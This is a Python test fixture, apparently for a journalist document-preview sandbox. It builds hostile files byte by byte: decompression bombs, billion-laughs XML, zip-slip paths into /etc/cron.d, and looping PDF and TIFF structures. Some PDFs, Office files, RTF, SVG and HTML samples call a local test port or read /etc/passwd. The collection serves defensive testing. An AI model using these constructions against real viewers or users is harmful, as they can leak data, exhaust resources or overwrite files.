# SPDX-License-Identifier: AGPL-3.0-or-later
"""Files that are made to harm what opens them, written here byte by byte. ``{door}`` in their addresses is a port of
this machine at which a test listens: whatever phones out is heard."""

import gzip
import io
import lzma
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from journalist_ui.previews.renderer.wire import MOST_BYTES, Why
from tests.previews import samples

SHOWN = frozenset({Why.ALL})
NOT_SHOWN = frozenset(Why) - {Why.ALL, Why.NO_SANDBOX}
EITHER = frozenset(Why) - {Why.NO_SANDBOX}
LARGE, BROKEN = frozenset({Why.LARGE, Why.DAMAGED}), frozenset({Why.DAMAGED, Why.EMPTY, Why.UNKNOWN})


@dataclass(frozen=True)
class Hostile:
    """``make`` gets the port; ``ends`` is how a look at it may end; ``needs`` a program of tests/needs.py."""

    make: Callable[[int], bytes]
    ends: frozenset[Why]
    needs: str = ""
    slow: bool = False


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width: int, height: int, *chunks: bytes, bits: int = 1) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, bits, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + b"".join(chunks) + chunk(b"IEND", b"")


def png_bomb(_: int) -> bytes:
    """All rows of 60,000 by 60,000 pixels are there: 450 MB in half a megabyte."""
    packer = zlib.compressobj(9)
    row = bytes(1 + 60_000 // 8)
    body = b"".join(packer.compress(row * 100) for _ in range(600)) + packer.flush()
    return png(60_000, 60_000, chunk(b"IDAT", body))


def packed_zeros(size: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(size >> 20)) + packer.flush()


def jpeg_claims(width: int, height: int) -> bytes:
    data = bytearray(samples.picture_file("JPEG"))
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def scan_bomb(_: int) -> bytes:
    """A progressive JPEG whose last scan comes five thousand times."""
    data = samples.picture_file("JPEG", samples.two_colours(1_000, 1_000), progressive=True)
    at = data.rindex(b"\xff\xda")
    return data[:at] + data[at:-2] * 5_000 + data[-2:]


def tiff(width: int, height: int, following: int = 0, rows: int = 1) -> bytes:
    tags = ((256, width), (257, height), (258, 8), (259, 1), (262, 1), (273, 8), (277, 1), (278, rows), (279, 16))
    folder = struct.pack("<H", len(tags)) + b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    return b"II*\0" + struct.pack("<I", 24) + bytes(16) + folder + struct.pack("<I", following)


def gif_of(frames: int) -> bytes:
    leaves = [Image.new("P", (1, 1), at % 200) for at in range(frames)]
    out = io.BytesIO()
    leaves[0].save(out, "GIF", save_all=True, append_images=leaves[1:], optimize=False, duration=10)
    return out.getvalue()


def changed(data: bytes, every: int) -> bytes:
    """Every so many bytes another."""
    found = bytearray(data)
    for at in range(every, len(found), every):
        found[at] ^= 0x5A
    return bytes(found)


def pdf_stream(head: bytes, body: bytes) -> bytes:
    return b"<< " + head + b" /Length %d >>\nstream\n" % len(body) + body + b"\nendstream"


def pdf_with(extra: bytes, resources: bytes = b"", content: bytes = b"/X Do") -> bytes:
    """One page that draws the object 5, whose name is X."""
    data = samples.pdf_file(pages=1, extra=extra)
    named = b"/Resources << /XObject << /X 5 0 R >> " + resources + b" >> /Contents 3 0 R"
    data = data.replace(b"/Contents 3 0 R", named)
    drawn = data[data.index(b"stream\n") + 7 : data.index(b"\nendstream")]
    return data.replace(drawn, content.ljust(len(drawn)))


def flate_bomb(_: int) -> bytes:
    """A stream that unfolds thrice, to 256 MiB."""
    body = zlib.compress(zlib.compress(packed_zeros(1 << 28), 9), 9)
    head = b"/Filter [/FlateDecode /FlateDecode /FlateDecode]"
    image = b"/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /BitsPerComponent 8 /ColorSpace /DeviceGray "
    return pdf_with(pdf_stream(image + head, body))


def zipped(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in members.items():
            packed.writestr(name, data)
    return out.getvalue()


def word_linked(door: int) -> bytes:
    """A letter with a template and a picture that lie elsewhere."""
    where = f"http://127.0.0.1:{door}/"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    relations = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{kind}attachedTemplate" Target="{where}t.dotm" TargetMode="External"/>'
        f'<Relationship Id="r2" Type="{kind}image" Target="{where}i.png" TargetMode="External"/></Relationships>'
    ).encode()
    settings = (
        '<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        f'xmlns:r="{kind[:-1]}"><w:attachedTemplate r:id="r1"/></w:settings>'
    ).encode()
    more = {"word/settings.xml": settings, "word/_rels/settings.xml.rels": relations}
    return samples.word_file(**(more | {"word/_rels/document.xml.rels": relations}))


def writer_linked(door: int) -> bytes:
    """An open document that loads a picture and runs a macro when it is opened."""
    where = f"http://127.0.0.1:{door}/i.png"
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{full}:1.0"'
        for name, full in (("office", "office"), ("text", "text"), ("draw", "drawing"), ("script", "script"))
    )
    macro = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"
    content = (
        f'<?xml version="1.0"?><office:document-content {spaces} xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
        f'script:event-name="dom:load" xlink:href="{macro}"/></office:event-listeners></office:scripts>'
        f'<office:body><office:text><text:p><draw:frame><draw:image xlink:href="{where}" xlink:actuate="onLoad"/>'
        "</draw:frame>Hello</text:p></office:text></office:body></office:document-content>"
    ).encode()
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content})


def rich_text(door: int) -> bytes:
    field = rf'{{\field{{\*\fldinst INCLUDEPICTURE "http://127.0.0.1:{door}/x.png" \\d}}}}'
    include = r'{\field{\*\fldinst INCLUDETEXT "file:///etc/passwd"}}'
    return (r"{\rtf1 Hello " + field + include + "}").encode()


def wav_claims(_: int) -> bytes:
    data = bytearray(samples.wav_file(0.1))
    data[4:8] = data[40:44] = b"\xff\xff\xff\xff"
    return bytes(data)


def _pdf_action(action: bytes) -> Callable[[int], bytes]:
    return lambda door: samples.pdf_file(catalog=b"/OpenAction << " + action.replace(b"DOOR", b"%d" % door) + b" >>")


_LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (98 + at, b"&%c;" % (97 + at) * 10) for at in range(9)
)
_SVG = '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1:{}/x"/><script>alert(1)</script></svg>'
PICTURES = {
    "png of 60,000 x 60,000, all of it": Hostile(png_bomb, LARGE, slow=True),
    "png that claims 2^31 x 2^31": Hostile(lambda _: png(0x7FFFFFFF, 0x7FFFFFFF), LARGE),
    "png of nothing": Hostile(lambda _: png(0, 0), BROKEN | LARGE),
    "png whose text unfolds to 256 MiB": Hostile(
        lambda _: png(8, 8, chunk(b"zTXt", b"a\0\0" + packed_zeros(1 << 28)), chunk(b"IDAT", zlib.compress(bytes(16)))),
        EITHER,
        slow=True,
    ),
    "png whose profile unfolds to 256 MiB": Hostile(
        lambda _: png(8, 8, chunk(b"iCCP", b"a\0\0" + packed_zeros(1 << 28)), chunk(b"IDAT", zlib.compress(bytes(16)))),
        EITHER,
        slow=True,
    ),
    "png, a thin one": Hostile(lambda _: samples.picture_file("PNG", Image.new("L", (1, 60_000))), SHOWN),
    "jpeg that claims 65,535 x 65,535": Hostile(lambda _: jpeg_claims(65_535, 65_535), LARGE),
    "jpeg of five thousand scans": Hostile(scan_bomb, EITHER, slow=True),
    "jpeg with a camera's note that is none": Hostile(
        lambda _: samples.picture_file("JPEG", exif=b"Exif\0\0II*\0\xff\xff\xff\xff" + bytes(60)), SHOWN | BROKEN
    ),
    "gif that claims 65,535 x 65,535": Hostile(
        lambda _: b"GIF89a" + struct.pack("<HHBBB", 65_535, 65_535, 0, 0, 0) + b",\0\0\0\0\xff\xff\xff\xff\0\x02;",
        LARGE,
    ),
    "gif of ten thousand frames": Hostile(lambda _: gif_of(10_000), EITHER, slow=True),
    "tiff that claims a billion pixels": Hostile(lambda _: tiff(60_000, 60_000), LARGE),
    "tiff whose folders go round": Hostile(lambda _: tiff(4, 4, following=24), EITHER),
    "tiff with a strip beyond its end": Hostile(lambda _: tiff(4, 4, rows=0xFFFFFFFF), EITHER),
    "webp that claims 16,383 x 16,383": Hostile(
        lambda _: b"RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0\x2f" + struct.pack("<I", 0x0FFFFFFF) + bytes(8), LARGE
    ),
    "bmp that claims 2^31 rows": Hostile(
        lambda _: b"BM" + struct.pack("<IIIIiiHHIIiiII", 54, 0, 54, 40, 1 << 20, -(1 << 31), 1, 24, 0, 0, 0, 0, 0, 0),
        LARGE,
    ),
    "heic with wrong bytes": Hostile(lambda _: changed(samples.heic_file(), 97), EITHER),
    "jpeg with wrong bytes": Hostile(lambda _: changed(samples.picture_file("JPEG"), 61), EITHER),
}
WHOLE = {
    "jpeg": lambda: samples.picture_file("JPEG", samples.two_colours(900, 900)),
    "png": lambda: samples.picture_file("PNG", Image.effect_noise((200, 200), 80)),
    "webp": lambda: samples.picture_file("WEBP", Image.effect_noise((200, 200), 80).convert("RGB")),
    "gif": lambda: samples.picture_file("GIF", Image.effect_noise((200, 200), 80)),
    "tiff": lambda: samples.picture_file("TIFF"),
    "heic": samples.heic_file,
    "pdf": samples.pdf_file,
}
TRUNCATED = {
    f"{kind}, the first {part}": Hostile(
        lambda _, make=make, share=share: make()[: max(12, int(len(make()) * share))],
        EITHER,
        slow=not share,
    )
    for kind, make in WHOLE.items()
    for part, share in (("bytes", 0.0), ("half", 0.5))
}
DOCUMENTS = {
    "pdf with a script": Hostile(
        _pdf_action(b"/S /JavaScript /JS (app.launchURL\\('http://127.0.0.1:DOOR/'\\); while\\(1\\);)"), SHOWN
    ),
    "pdf that starts a program": Hostile(_pdf_action(b"/S /Launch /F (/usr/bin/touch) /P (/tmp/x)"), SHOWN),
    "pdf that opens an address": Hostile(_pdf_action(b"/S /URI /URI (http://127.0.0.1:DOOR/)"), SHOWN),
    "pdf that sends itself": Hostile(_pdf_action(b"/S /SubmitForm /F (http://127.0.0.1:DOOR/) /Flags 256"), SHOWN),
    "pdf whose picture lies elsewhere": Hostile(
        lambda door: pdf_with(
            pdf_stream(
                b"/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray "
                b"/F << /FS /URL /F (http://127.0.0.1:%d/x) >>" % door,
                b"",
            )
        ),
        EITHER,
    ),
    "pdf whose pages go round": Hostile(
        lambda _: samples.pdf_file(1).replace(b"/Kids [4 0 R]", b"/Kids [2 0 R]"), EITHER
    ),
    "pdf that claims a million pages": Hostile(
        lambda _: samples.pdf_file(1).replace(b"/Count 1 ", b"/Count 999999 "), EITHER
    ),
    "pdf of twenty thousand pages": Hostile(lambda _: samples.pdf_file(20_000), SHOWN),
    "pdf of a page of a million miles": Hostile(lambda _: samples.pdf_file(1, box=b"0 0 1e30 1e30"), EITHER),
    "pdf of a page of no size": Hostile(lambda _: samples.pdf_file(1, box=b"5 5 5 5"), EITHER),
    "pdf whose drawing draws itself": Hostile(
        lambda _: pdf_with(
            pdf_stream(
                b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>", b"/X Do"
            )
        ),
        EITHER,
    ),
    "pdf whose picture unfolds to 256 MiB": Hostile(flate_bomb, EITHER, slow=True),
    "pdf behind a password": Hostile(
        lambda _: samples.pdf_file(1).replace(
            b"trailer << ",
            b"trailer << /ID [<00><00>] /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -1 /O <"
            + b"41" * 32
            + b"> /U <"
            + b"42" * 32
            + b"> >> ",
        ),
        frozenset({Why.PROTECTED}),
    ),
    "pdf of one hundred thousand brackets": Hostile(
        lambda _: samples.pdf_file(1).replace(b"/Count 1 ", b"/Count 1 /X " + b"[" * 100_000), EITHER
    ),
}
TEXTS = {
    "svg that phones out": Hostile(lambda door: _SVG.format(door).encode(), SHOWN),
    "html with a script": Hostile(lambda door: b"<script src=http://127.0.0.1:%d/></script>" % door, SHOWN),
    "xml of a billion laughs": Hostile(lambda _: _LAUGHS + b"]><x>&j;</x>", SHOWN),
    "a playlist of other files": Hostile(
        lambda door: b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\nhttp://127.0.0.1:%d/x\n" % door, SHOWN
    ),
    "sixteen megabytes in one line": Hostile(lambda _: b"a" * MOST_BYTES, SHOWN, slow=True),
    "marks of direction and a terminal's orders": Hostile(
        lambda _: "\u202eexe.fdp \u2066x\u2069 \x1b]0;title\x07\x1b[2J\x9b31m".encode() + b" words" * 90, EITHER
    ),
    "a program of Linux": Hostile(lambda _: b"\x7fELF\x02\x01\x01" + bytes(300), frozenset({Why.UNKNOWN})),
    "a program of Windows": Hostile(lambda _: b"MZ\x90\0\x03" + bytes(300), frozenset({Why.UNKNOWN})),
    "zeros": Hostile(lambda _: bytes(1_000), frozenset({Why.UNKNOWN})),
    "a single byte": Hostile(lambda _: b"\xff", EITHER),
}
PACKED = {
    "zip that unfolds": Hostile(lambda _: zipped({"0": bytes(1 << 26)}), frozenset({Why.ARCHIVE})),
    "zip of names that climb": Hostile(
        lambda _: zipped({"../../../../etc/cron.d/x": b"x", "/srv/x": b"x"}), frozenset({Why.ARCHIVE})
    ),
    "gzip that unfolds": Hostile(lambda _: gzip.compress(bytes(1 << 26)), frozenset({Why.ARCHIVE})),
    "xz that unfolds": Hostile(lambda _: lzma.compress(bytes(1 << 22)), frozenset({Why.ARCHIVE})),
    "a pdf that is a zip too": Hostile(lambda _: samples.pdf_file(1) + zipped({"a": b"a"}), EITHER),
    "a picture that is a page too": Hostile(
        lambda _: samples.picture_file("GIF") + b"<script>alert(1)</script>", SHOWN
    ),
    "a picture with a program behind": Hostile(lambda _: samples.picture_file("PNG") + b"\x7fELF" * 99, SHOWN),
}
OFFICE = {
    "a letter that phones out": Hostile(word_linked, EITHER, "libreoffice"),
    "an open document that phones out": Hostile(writer_linked, EITHER, "libreoffice", slow=True),
    "rich text that phones out and reads files": Hostile(rich_text, EITHER, "libreoffice", slow=True),
    "a letter that unfolds to half a gigabyte": Hostile(
        lambda _: samples.word_file(**{"word/styles.xml": bytes(1 << 29)}), EITHER, "libreoffice", slow=True
    ),
    "a letter of a million brackets": Hostile(
        lambda _: samples.word_file(**{"word/document.xml": b"<a>" * 1_000_000}), EITHER, "libreoffice", slow=True
    ),
    "an old letter that is none": Hostile(
        lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_096), EITHER, "libreoffice", slow=True
    ),
}
RECORDINGS = {
    "wav that claims four gigabytes": Hostile(wav_claims, EITHER, "ffmpeg"),
    "ogg that is none": Hostile(lambda _: b"OggS" + bytes(5_000), NOT_SHOWN, "ffmpeg"),
    "mp3 that is none": Hostile(
        lambda _: b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + bytes(5_000), NOT_SHOWN, "ffmpeg", slow=True
    ),
    "film of boxes in boxes": Hostile(
        lambda _: (
            b"\0\0\0\x10ftypisom\0\0\0\0"
            + b"".join(struct.pack(">I", 8 * (2_000 - at)) + b"moov" for at in range(2_000))
        ),
        NOT_SHOWN,
        "ffmpeg",
    ),
    "matroska that is none": Hostile(lambda _: b"\x1aE\xdf\xa3" + b"\xff" * 5_000, NOT_SHOWN, "ffmpeg"),
}
ALL = PICTURES | TRUNCATED | DOCUMENTS | TEXTS | PACKED | OFFICE | RECORDINGS
